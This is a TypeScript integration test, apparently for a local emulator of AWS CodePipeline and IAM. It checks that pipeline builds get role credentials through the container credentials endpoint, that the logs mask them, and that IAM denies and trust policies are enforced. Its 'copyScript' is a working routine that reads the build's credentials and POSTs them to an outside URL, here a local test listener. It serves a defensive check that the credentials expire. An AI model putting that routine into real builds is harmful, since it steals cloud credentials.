import { GetPipelineStateCommand, CreatePipelineCommand, ListActionExecutionsCommand, type ActionDeclaration } from '@aws-sdk/client-codepipeline';
import { CreateRoleCommand, PutRolePolicyCommand } from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { codeCommitSource, declaration, hostedRepository, waitForExecution } from '../../kit/pipelines.js';
import { actionLog, actionRuns, latestExecutionId } from '../../actions/kit/executions.js';
import { startHttpListener, type HttpListener } from '../../actions/kit/http-listener.js';
import { startIamTestServer, type IamTestServer } from './iam-test-server.js';
import { bundleSdkScript } from './sdk-bundle.js';

/**
 * Issue 24: a build calls AWS APIs as its role, as on CodeBuild, where "CodeBuild gives every build
 * temporary credentials of its service role through the container credentials endpoint" and the CLI and
 * SDKs pick them up (AWS SDKs and Tools reference guide, "Container credential provider":
 * AWS_CONTAINER_CREDENTIALS_FULL_URI with AWS_CONTAINER_AUTHORIZATION_TOKEN). Real server in iam mode,
 * real sandboxed builds, Debian's AWS CLI (/usr/bin/aws) and the AWS SDK for JavaScript v3.
 */
const trustPolicy = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { Service: ['codepipeline.amazonaws.com', 'codebuild.amazonaws.com'] }, Action: 'sts:AssumeRole' }],
});
const allowAll = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
// The case: a role whose policy denies the bucket (S3 resource ARNs: arn:aws:s3:::bucket/key),
// here the pipeline's artifact bucket, which the artifact endpoint serves today.
const denyBucket = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Effect: 'Allow', Action: '*', Resource: '*' },
    { Effect: 'Deny', Action: 's3:GetObject', Resource: 'arn:aws:s3:::pipewright-artifacts/*' },
  ],
});
const denyState = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Effect: 'Allow', Action: '*', Resource: '*' },
    { Effect: 'Deny', Action: 'codepipeline:GetPipelineState', Resource: '*' },
  ],
});

// The SDK finds everything in the environment the build was given: region, endpoint, credentials.
const stateScript = `
import { CodePipelineClient, GetPipelineStateCommand } from '@aws-sdk/client-codepipeline';
const client = new CodePipelineClient({ maxAttempts: 1 });
try {
  const state = await client.send(new GetPipelineStateCommand({ name: process.argv[2] }));
  console.log('GetPipelineState ok: ' + state.pipelineName + ', ' + state.stageStates.length + ' stages');
} catch (error) {
  console.log('GetPipelineState refused: ' + error.name + ': ' + error.message);
  process.exit(1);
}
`;

// What a malicious build would do: read its credentials and send them elsewhere.
const copyScript = `
const uri = process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI;
const token = process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN;
const answer = await fetch(uri, { headers: { Authorization: token } });
const credentials = await answer.json();
await fetch(process.argv[2], { method: 'POST', body: JSON.stringify({ uri, token, credentials }) });
console.log('copied credentials of key ' + credentials.AccessKeyId);
`;

// The build's own source, by the S3 ARN CodeBuild gives it in CODEBUILD_SOURCE_VERSION.
const copySource = 'aws s3 cp "s3://${CODEBUILD_SOURCE_VERSION#arn:aws:s3:::}" ./source.zip --endpoint-url "$AWS_ENDPOINT_URL_S3"';

interface Copied {
  uri: string;
  token: string;
  credentials: { AccessKeyId: string; SecretAccessKey: string; Token: string; Expiration: string };
}

function commandsAction(name: string, commands: string[]): ActionDeclaration {
  return { name, actionTypeId: { category: 'Compute', owner: 'AWS', provider: 'Commands', version: '1' }, inputArtifacts: [{ name: 'Src' }], commands };
}

describe('builds call AWS APIs as their role, through the container credentials endpoint (iam mode)', () => {
  let server: IamTestServer;
  let listener: HttpListener;
  const accountId = '123456789012';

  beforeAll(async () => {
    server = await startIamTestServer();
    listener = await startHttpListener();
    const iam = server.iam(server.root);
    for (const [role, policy] of [
      ['builder', allowAll],
      ['no-state', denyState],
      ['no-config', denyBucket],
      ['people-only', allowAll],
      ['codebuild-only', allowAll],
    ] as const) {
      // people-only trusts the account's users, not the services that run builds; codebuild-only trusts
      // CodeBuild, which assumes a project's service role, not a pipeline's.
      const trusting = (principal: object) => JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: principal, Action: 'sts:AssumeRole' }] });
      const trusted = role === 'people-only' ? trusting({ AWS: `arn:aws:iam::${accountId}:root` }) : role === 'codebuild-only' ? trusting({ Service: 'codebuild.amazonaws.com' }) : trustPolicy;
      await iam.send(new CreateRoleCommand({ RoleName: role, AssumeRolePolicyDocument: trusted }));
      await iam.send(new PutRolePolicyCommand({ RoleName: role, PolicyName: 'permissions', PolicyDocument: policy }));
    }
    await hostedRepository(server.dataDir, 'app', { 'state.mjs': await bundleSdkScript(stateScript), 'copy.mjs': copyScript });
  }, 60_000);
  afterAll(async () => {
    await listener.close();
    await server.close();
  });

  async function runPipeline(pipelineName: string, roleName: string, commands: string[]) {
    const client = server.codePipeline(server.root);
    await client.send(
      new CreatePipelineCommand({
        pipeline: declaration(pipelineName, [{ name: 'Source', actions: [codeCommitSource('app')] }, { name: 'Work', actions: [commandsAction('CallAws', commands)] }], {
          roleArn: `arn:aws:iam::${accountId}:role/${roleName}`,
        }),
      }),
    );
    const executionId = await latestExecutionId(client, pipelineName);
    const execution = await waitForExecution(client, pipelineName, executionId, { timeoutMs: 120_000 });
    const run = (await actionRuns(client, pipelineName, executionId)).get('CallAws');
    const log = (await actionLog(server.dataDir, run?.actionExecutionId ?? '')).join('\n');
    return { client, execution, run, log, executionId };
  }

  it('runs the AWS CLI and an SDK script as the pipeline role, masks the credentials, and refuses them once the build has ended', async () => {
    const { client, execution, run, log, executionId } = await runPipeline('calls-aws', 'builder', [
      // Debian 12's AWS CLI (2.9) predates the service-specific endpoint variables (CLI 2.13): the
      // plugin of the build's ~/.aws/config points it at AWS_ENDPOINT_URL_STS; credentials come from
      // the container endpoint.
      'aws sts get-caller-identity --query Arn --output text',
      'aws codepipeline get-pipeline-state --name calls-aws --query pipelineName --output text',
      'node state.mjs calls-aws',
      copySource,
      `node copy.mjs ${listener.url}/copied`,
      'env | sort',
    ]);
    expect(execution.status, `${execution.statusSummary ?? ''}\n${log}`).toBe('Succeeded');
    expect(log).toMatch(new RegExp(`arn:aws:sts::${accountId}:assumed-role/builder/Pipewright-`));
    expect(log).toContain('GetPipelineState ok: calls-aws, 2 stages');
    expect(log).toMatch(/^stdout calls-aws$/m);
    expect(log).toMatch(/download: s3:\/\/pipewright-artifacts\/\S+ to \.\/source\.zip/);
    expect(log).toMatch(/AWS_CONTAINER_CREDENTIALS_FULL_URI=http:\/\/127\.0\.0\.1:\d+\/credentials\//);
    expect(log).toContain(`AWS_ENDPOINT_URL_CODEPIPELINE=${server.url}`);
    expect(log).toContain(`AWS_ENDPOINT_URL_S3=${server.url}/s3`);

    const copied = JSON.parse((await listener.request('/copied')).body) as Copied;
    expect(copied.credentials.AccessKeyId).toMatch(/^ASIA/);
    // Never in the log (the env output included), nor in what the API answers about the run.
    const answers = JSON.stringify([await client.send(new GetPipelineStateCommand({ name: 'calls-aws' })), await client.send(new ListActionExecutionsCommand({ pipelineName: 'calls-aws', filter: { pipelineExecutionId: executionId } })), run]);
    for (const secret of [copied.credentials.SecretAccessKey, copied.credentials.Token, copied.token]) {
      expect(log).not.toContain(secret);
      expect(answers).not.toContain(secret);
    }

    // The build has ended: its endpoint and its credentials are refused.
    const again = await fetch(copied.uri, { headers: { Authorization: copied.token } });
    expect(again.status).toBe(403);
    expect(((await again.json()) as { Code: string }).Code).toBe('AccessDenied');
    const sts = new STSClient({
      endpoint: server.url,
      region: 'us-east-1',
      maxAttempts: 1,
      credentials: { accessKeyId: copied.credentials.AccessKeyId, secretAccessKey: copied.credentials.SecretAccessKey, sessionToken: copied.credentials.Token },
    });
    await expect(sts.send(new GetCallerIdentityCommand({}))).rejects.toMatchObject({ name: 'InvalidClientTokenId' });
    sts.destroy();
  }, 150_000);

  it("fails the SDK call with AccessDenied when the role's policy denies it", async () => {
    const { execution, log } = await runPipeline('state-denied', 'no-state', ['node state.mjs state-denied']);
    expect(execution.status).toBe('Failed');
    expect(log).toMatch(new RegExp(`GetPipelineState refused: AccessDeniedException: User: arn:aws:sts::${accountId}:assumed-role/no-state/Pipewright-\\S+ is not authorized to perform: codepipeline:GetPipelineState`));
  }, 150_000);

  it('fails `aws s3 cp` with AccessDenied when the role denies the bucket', async () => {
    const { execution, log } = await runPipeline('bucket-denied', 'no-config', [copySource]);
    expect(execution.status).toBe('Failed');
    expect(log).toMatch(/An error occurred \((403|AccessDenied)\) when calling the (HeadObject|GetObject) operation/);
    expect(log).not.toContain('download:');
  }, 150_000);

  it('fails the action when the pipeline names a role this server does not have, as AWS refuses to assume it', async () => {
    const { execution, run, log } = await runPipeline('no-such-role', 'never-created', ['echo never runs']);
    expect(execution.status).toBe('Failed');
    expect(run?.status).toBe('Failed');
    expect(log).toContain(`The role arn:aws:iam::${accountId}:role/never-created cannot be assumed: this server's IAM has no such role.`);
    expect(log).not.toContain('never runs');
  }, 150_000);

  it('fails the action when the role does not trust the services that run builds, so a pipeline cannot borrow a role meant for people', async () => {
    const { execution, log } = await runPipeline('borrowed-role', 'people-only', ['echo never runs']);
    expect(execution.status).toBe('Failed');
    expect(log).toContain(`The role arn:aws:iam::${accountId}:role/people-only cannot be assumed: its trust policy does not let codepipeline.amazonaws.com assume it (sts:AssumeRole)`);
    expect(log).not.toContain('never runs');
  }, 150_000);

  // A Commands action runs as the pipeline's service role, which CodePipeline assumes (CodePipeline User
  // Guide, Commands action reference, "Service role permissions: Commands action"): a role that trusts
  // only CodeBuild is a project's service role, and AWS would not let CodePipeline assume it.
  it('fails a Commands action whose pipeline role trusts only CodeBuild, since CodePipeline is the one assuming it', async () => {
    const { execution, log } = await runPipeline('codebuild-role', 'codebuild-only', ['echo never runs']);
    expect(execution.status).toBe('Failed');
    expect(log).toContain(`The role arn:aws:iam::${accountId}:role/codebuild-only cannot be assumed: its trust policy does not let codepipeline.amazonaws.com assume it (sts:AssumeRole), and CodePipeline runs the action`);
    expect(log).not.toContain('never runs');
  }, 150_000);
});
